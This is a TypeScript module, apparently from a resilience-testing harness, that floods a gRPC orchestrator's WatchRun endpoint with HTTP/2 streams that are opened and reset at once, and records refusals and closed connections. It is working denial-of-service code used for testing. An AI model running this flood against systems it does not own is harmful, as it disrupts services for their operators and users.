import { type ClientHttp2Session, connect, constants } from 'node:http2';
import { RunServiceService } from '@trikd/protocol/gen/node/trikd/v1/run';
import { type Attack, answered, newTally } from './attack.ts';
import { paced } from './pace.ts';

const CONNECTIONS = 23;
const RESETS_PER_SECOND = 20_000 / 3;
/** One of so many streams waits for its answer, so that there is one to see. */
const HEARD = 100;

/** Opens WatchRun and resets it at once, over a few connections that are opened again whenever they are closed. */
export const watchResets: Attack = async ({ orchestrator, runId, rate }, signal) => {
  const tally = newTally();
  const { path, requestSerialize } = RunServiceService.watchRun;
  const message = requestSerialize({ runId, fromEvent: 1, pastOnly: false });
  const frame = Buffer.concat([Buffer.alloc(5), message]);
  frame.writeUInt32BE(message.length, 1);
  const sessions: (ClientHttp2Session | undefined)[] = [];
  const sessionAt = (index: number): ClientHttp2Session => {
    const open = sessions[index];
    if (open && !open.closed && !open.destroyed) return open;
    const session = connect(`http://${orchestrator}`)
      .on('error', () => undefined)
      .on('goaway', () => answered(tally, 'the connection was closed'));
    sessions[index] = session;
    return session;
  };
  const headers = { ':method': 'POST', ':path': path, 'content-type': 'application/grpc', te: 'trailers' };
  await paced(rate * RESETS_PER_SECOND, signal, (index) => {
    tally.attempts += 1;
    const stream = sessionAt(index % CONNECTIONS).request(headers);
    stream.on('error', () => undefined);
    stream.end(frame);
    if (index % HEARD !== 0) return stream.close(constants.NGHTTP2_CANCEL);
    // A refusal has its status in the header, as there is no message before it.
    stream.once('response', (response) => {
      answered(tally, decodeURIComponent(`${response['grpc-message'] ?? 'a stream of events'}`));
      stream.close(constants.NGHTTP2_CANCEL);
    });
  });
  for (const session of sessions) session?.destroy();
  return tally;
};
